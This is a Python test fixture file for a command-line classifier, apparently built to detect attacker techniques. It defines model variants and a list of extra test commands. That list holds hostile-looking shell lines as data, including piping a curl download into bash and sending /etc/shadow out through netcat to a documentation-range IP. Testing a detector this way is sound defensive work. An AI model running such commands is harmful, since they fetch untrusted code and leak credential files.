"""Small fitted models, made once."""

from collections.abc import Callable, Sequence

import pytest

from ttpline.domain.labelled import LabelledCommand
from ttpline.models.tfidf_lr import TfidfLr, TfidfLrParams
from ttpline.testing.check_classifier import sample_rows

SEED = 7

MORE = (
    "cat /etc/hostname; id",
    "curl -s http://192.0.2.7/x | bash",
    "grep root /etc/passwd /etc/passwd",
    "nc nc nc nc -zv 198.51.100.4",
    "echo unheard of words",
    "sh -c 'cat /etc/shadow | nc 192.0.2.1 4444'",
    "ÄÖ naïve İstanbul cat ΑΣ",
    "",
    "  ",
    "'\"",
    "CAT /ETC/SHADOW",
)

VARIANTS = {
    "word": TfidfLrParams(),
    "word-1-3-sublinear": TfidfLrParams(word_ngram_max=3, sublinear_tf=True, C=2.0),
    "word-2-2-plain": TfidfLrParams(word_ngram_min=2, use_idf=False, norm=None, lowercase=False),
    "word-few-l1-norm": TfidfLrParams(max_features=20, norm="l1", smooth_idf=False),
    "char": TfidfLrParams(analyzer="char_wb", sublinear_tf=True),
    "char-4-8": TfidfLrParams(analyzer="char_wb", char_ngram_min=4, char_ngram_max=8, char_max_features=500),
    "both": TfidfLrParams(analyzer="both", sublinear_tf=True, lowercase=False),
}


def fitted(params: TfidfLrParams, rows: Sequence[LabelledCommand] | None = None) -> TfidfLr:
    model = TfidfLr(params)
    model.fit(sample_rows() if rows is None else rows, [], SEED)
    return model


@pytest.fixture(scope="session")
def texts() -> list[str]:
    """The training commands and some that are new."""
    return [row.command_line for row in sample_rows()] + list(MORE)


@pytest.fixture(scope="session")
def model_of() -> Callable[[str], TfidfLr]:
    """The fitted model of one of ``VARIANTS``; not to be changed."""
    made: dict[str, TfidfLr] = {}

    def get(name: str) -> TfidfLr:
        if name not in made:
            made[name] = fitted(VARIANTS[name])
        return made[name]

    return get
